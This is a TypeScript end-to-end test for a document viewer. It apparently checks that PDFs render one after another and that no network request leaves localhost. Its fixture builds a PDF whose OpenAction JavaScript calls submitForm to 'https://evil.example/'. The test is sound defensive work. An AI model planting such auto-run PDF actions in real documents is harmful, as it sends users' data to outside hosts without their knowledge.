import { PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";
import { addFiles, expectArrived } from "../fixtures/checklist.ts";
import { type Document, pdf } from "../fixtures/documents.ts";
import { expect, test } from "../fixtures/test.ts";

/** Asks its reader to run a script and to open a page when it is opened. */
async function acting(name: string): Promise<Document> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  document.addPage([595, 842]).drawText(name, { x: 64, y: 740, size: 22, font });
  const action = document.context.obj({
    S: "JavaScript",
    JS: PDFString.of("app.alert('owned'); this.submitForm('https://evil.example/');"),
  });
  document.catalog.set(PDFName.of("OpenAction"), action);
  return { name, mimeType: "application/pdf", buffer: Buffer.from(await document.save()) };
}

test("PDFs are drawn one after the other, and nothing that they ask for happens", async ({ ask }) => {
  const { office, mobile } = await ask({ lines: ["Passport"] });
  const names = ["passport.pdf", "acting.pdf"];
  await addFiles(mobile, "Passport", [await pdf("passport.pdf"), await acting("acting.pdf")]);
  const elsewhere: string[] = [];
  office.on("request", (request) => {
    if (!/^(?:blob:|http:\/\/(?:localhost|127\.0\.0\.1):)/.test(request.url())) elsewhere.push(request.url());
  });
  for (const name of names) {
    await expectArrived(mobile, "Passport", name);
    await office.getByRole("button", { name, exact: true }).click();
    const dialog = office.getByRole("dialog", { name });
    await expect(dialog.getByRole("region", { name: `${name}, 1 page` })).toContainText(name);
    await dialog.getByRole("button", { name: "Close" }).click();
  }
  expect(elsewhere).toEqual([]);
});
